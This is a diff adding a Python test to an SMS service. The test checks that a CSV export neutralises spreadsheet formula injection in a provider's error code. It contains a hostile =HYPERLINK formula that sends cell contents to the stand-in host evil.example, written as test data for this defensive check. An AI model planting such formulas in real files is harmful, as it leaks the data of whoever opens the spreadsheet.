@@ -8,6 +8,7 @@ import csv
 import io
 import json
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -18,6 +19,8 @@ from functions.integrations import app as integrations
 from smscore import wiring
 from smscore.dal.outbox_store import DynamoOutbox
 from smscore.domain.exports import BOM, HEADER
+from smscore.domain.model import MessageStatus, Receipt
+from smscore.domain.receipts import ReceiptOutcome, apply_receipt
 from smscore.providers.sandbox import PERMANENT_INVALID_NUMBER, SandboxProvider
 from smsdev.provision import create_buckets, function_environment
 from smsdev.testing import serialised_moto
@@ -91,6 +94,30 @@ def test_a_small_campaign_is_answered_as_a_csv_with_a_bom_and_escaped_cells(env:
     assert sent["status"] == "SENT"
     assert sent["sentAt"].endswith("Z")
     assert sent["deliveredAt"] == ""
+
+
+def test_a_formula_a_provider_reports_as_its_error_code_is_written_as_text(env: Stack, campaign: Campaign) -> None:
+    # Given a campaign whose message was reported UNDELIVERED with an error code that a spreadsheet would run (the
+    # provider's text reaches the file as it came)
+    queue_id, ids = a_delivered_campaign(env, campaign)
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
+    receipt = Receipt(
+        "sandbox",
+        MessageStatus.UNDELIVERED,
+        datetime(2026, 12, 6, 10, tzinfo=UTC),
+        "undelivered",
+        hostile,
+        ids["+573001112233"],
+    )
+    assert apply_receipt(receipt, wiring.receipts_deps().receipts) is ReceiptOutcome.APPLIED
+    # When the campaign is exported, in either delimiter
+    for query in (None, {"delimiter": "comma"}):
+        text = body_text(get(campaign, "/api/messages/queues/{queueId}/export", query, queueId=queue_id))
+        rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM)), delimiter="," if query else ";"))
+        (row,) = [r for r in rows if r["messageId"] == ids["+573001112233"]]
+        # Then the cell holds the code behind a leading apostrophe: text, never a formula; no cell starts with one
+        assert (row["status"], row["errorCode"]) == ("UNDELIVERED", "'" + hostile)
+        assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_a_comma_delimiter_and_another_tenants_campaign(env: Stack, campaign: Campaign, admin: Any) -> None:
